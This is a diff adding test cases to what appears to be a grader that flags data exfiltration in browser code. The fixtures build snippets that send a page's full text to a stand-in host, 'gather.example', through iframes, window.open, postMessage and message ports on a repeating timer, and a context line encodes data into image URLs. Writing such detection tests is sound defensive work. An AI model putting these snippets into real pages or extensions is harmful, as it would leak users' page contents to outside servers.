@@ -46,6 +46,25 @@ describe('data that leaves at an address which is written elsewhere', () => {
     expect(await graded({ content: content("'ready'"), background })).toMatch(/^A/);
   });
 
+  const made = "const f = document.createElement('iframe'); document.body.append(f);";
+  const tell = "f.contentWindow.postMessage({ text: DATA }, '*');";
+  it.each([
+    ['an attribute', `${made} f.setAttribute('src', TO); ${tell}`],
+    ['its options', `const f = Object.assign(document.createElement('iframe'), { src: TO }); ${tell}`],
+    ['a reference', `const r = useRef(); h('iframe', { ref: r, src: TO }); ${tell.replace('f.', 'r.current.')}`],
+    ['a window', `const w = window.open(TO); w.postMessage({ text: DATA }, '*');`],
+    [
+      'a port',
+      `${made} f.src = TO; const c = new MessageChannel(); f.contentWindow.postMessage('', '*', [c.port2]); c.port1.postMessage({ text: DATA });`,
+    ],
+  ])('is told of a frame by %s', async (_, content) => {
+    const of = (data: string, to: string): Promise<string> =>
+      graded({ content: `setInterval(() => { ${content.replace('DATA', data).replace('TO', to)} }, 9000);` });
+    expect(await of('document.body.innerText', "'https://gather.example/side'")).toMatch(/[DF]/);
+    expect(await of('document.body.innerText', "chrome.runtime.getURL('side.html')")).toMatch(/^A/);
+    expect(await of("'ready'", "'https://gather.example/side'")).toMatch(/^A/);
+  });
+
   it('is told where a style asks for it', async () => {
     const style = (to: string, data: string): string =>
       `const BASE = '${to}'; const texture = () => BASE + '/' + btoa(${data}) + '.png';
